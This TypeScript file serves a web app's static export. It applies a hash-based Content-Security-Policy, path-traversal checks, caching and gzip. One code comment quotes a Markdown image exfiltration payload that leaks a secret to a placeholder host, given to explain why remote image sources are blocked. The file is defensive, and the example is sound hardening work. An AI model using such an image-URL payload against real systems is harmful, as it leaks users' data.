import { createHash } from "node:crypto";
import { readFile, stat } from "node:fs/promises";
import path from "node:path";
import { gzipSync } from "node:zlib";
import type { ExtraRoutes } from "./server.js";

/**
 * Serves the web app's static export (web/out) on the tRPC server's own origin: one origin for the
 * browser, and the event stream (SSE) goes straight from tRPC to the browser — never through a Next.js
 * proxy, whose rewrites buffer it (vercel/next.js#60943).
 */
const TYPES: Record<string, string> = {
  ".html": "text/html; charset=utf-8",
  ".js": "text/javascript; charset=utf-8",
  ".mjs": "text/javascript; charset=utf-8",
  ".css": "text/css; charset=utf-8",
  ".json": "application/json",
  ".txt": "text/x-component; charset=utf-8",
  ".svg": "image/svg+xml",
  ".png": "image/png",
  ".ico": "image/x-icon",
  ".woff2": "font/woff2",
  ".ttf": "font/ttf",
  ".csv": "text/csv; charset=utf-8",
  ".map": "application/json",
};
const COMPRESSIBLE = new Set([".html", ".js", ".mjs", ".css", ".json", ".txt", ".svg", ".csv", ".map"]);

/**
 * The app's CSP. Inline scripts are allowed only by hash (Next's bootstrap scripts in each page).
 * Output frames (srcdoc, sandboxed without allow-same-origin) inherit this policy: markup a kernel
 * printed cannot run inline script or load anything from another origin even inside its frame;
 * img-src without remote hosts stops `![](https://host/?d=secret)` exfiltration from Markdown.
 */
export function contentSecurityPolicy(inlineScriptHashes: string[]): string {
  return [
    "default-src 'self'",
    `script-src 'self' ${inlineScriptHashes.map((h) => `'sha256-${h}'`).join(" ")}`.trim(),
    // Monaco and plotly.js set element styles at run time.
    "style-src 'self' 'unsafe-inline'",
    "img-src 'self' data: blob:",
    "font-src 'self' data:",
    "connect-src 'self'",
    "worker-src 'self' blob:",
    "frame-src 'self'",
    "object-src 'none'",
    "base-uri 'self'",
    "form-action 'self'",
    "frame-ancestors 'none'",
  ].join("; ");
}

const INLINE_SCRIPT = /<script(?![^>]*\ssrc=)[^>]*>([\s\S]*?)<\/script>/gi;

export function inlineScriptHashes(html: string): string[] {
  return [...html.matchAll(INLINE_SCRIPT)].map((m) => createHash("sha256").update(m[1]!, "utf8").digest("base64"));
}

interface Loaded {
  body: Buffer;
  gzip: Buffer | null;
  headers: Record<string, string>;
}

/** `dir` is the export folder (web/out). Serves GET/HEAD for anything outside /trpc and /api. */
export function staticRoutes(dir: string): ExtraRoutes {
  const root = path.resolve(dir);
  const cache = new Map<string, { mtimeMs: number; loaded: Loaded }>();

  async function load(file: string, mtimeMs: number, urlPath: string): Promise<Loaded> {
    const hit = cache.get(file);
    if (hit && hit.mtimeMs === mtimeMs) return hit.loaded;
    const body = await readFile(file);
    const ext = path.extname(file);
    const headers: Record<string, string> = { "Content-Type": TYPES[ext] ?? "application/octet-stream" };
    if (ext === ".html") {
      headers["Content-Security-Policy"] = contentSecurityPolicy(inlineScriptHashes(body.toString("utf8")));
      headers["X-Frame-Options"] = "DENY";
      headers["Cache-Control"] = "no-cache";
    } else if (urlPath.startsWith("/_next/static/")) {
      headers["Cache-Control"] = "public, max-age=31536000, immutable"; // content-hashed names
    } else {
      headers["Cache-Control"] = "public, max-age=3600";
    }
    const gzip = COMPRESSIBLE.has(ext) && body.length > 1024 ? gzipSync(body) : null;
    const loaded = { body, gzip, headers };
    cache.set(file, { mtimeMs, loaded });
    return loaded;
  }

  /** The file for a URL path, or null; never a path outside `root`. */
  async function resolve(urlPath: string): Promise<{ file: string; mtimeMs: number } | null> {
    let decoded: string;
    try {
      decoded = decodeURIComponent(urlPath);
    } catch {
      return null;
    }
    if (decoded.includes("\0")) return null;
    const rel = decoded === "/" ? "index.html" : decoded.replace(/^\/+/, "");
    for (const candidate of [rel, `${rel}.html`, path.join(rel, "index.html")]) {
      const file = path.resolve(root, candidate);
      if (file !== root && !file.startsWith(root + path.sep)) return null;
      try {
        const s = await stat(file);
        if (s.isFile()) return { file, mtimeMs: s.mtimeMs };
      } catch {
        // try the next candidate
      }
    }
    return null;
  }

  return async (req, res, { url }) => {
    if (req.method !== "GET" && req.method !== "HEAD") return false;
    if (url.pathname.startsWith("/api/") || url.pathname.startsWith("/trpc")) return false;
    let found = await resolve(url.pathname);
    let status = 200;
    if (!found) {
      found = await resolve("/404.html");
      status = 404;
      if (!found) {
        res.writeHead(503, { "Content-Type": "text/plain; charset=utf-8", "Cache-Control": "no-store" });
        res.end("The web app is not built yet: run `npm run build -w web` (npm start and npm test build it for you).\n");
        return true;
      }
    }
    const { body, gzip, headers } = await load(found.file, found.mtimeMs, url.pathname);
    const useGzip = gzip !== null && /\bgzip\b/.test(String(req.headers["accept-encoding"] ?? ""));
    const payload = useGzip ? gzip : body;
    res.writeHead(status, {
      ...headers,
      ...(status === 404 ? { "Cache-Control": "no-store" } : {}),
      ...(useGzip ? { "Content-Encoding": "gzip" } : {}),
      Vary: "Accept-Encoding",
      "Content-Length": String(payload.length),
    });
    res.end(req.method === "HEAD" ? undefined : payload);
    return true;
  };
}

/** Tries each route in order; the first that handles the request wins. */
export function composeRoutes(...routes: ExtraRoutes[]): ExtraRoutes {
  return async (req, res, ctx) => {
    for (const route of routes) if (await route(req, res, ctx)) return true;
    return false;
  };
}
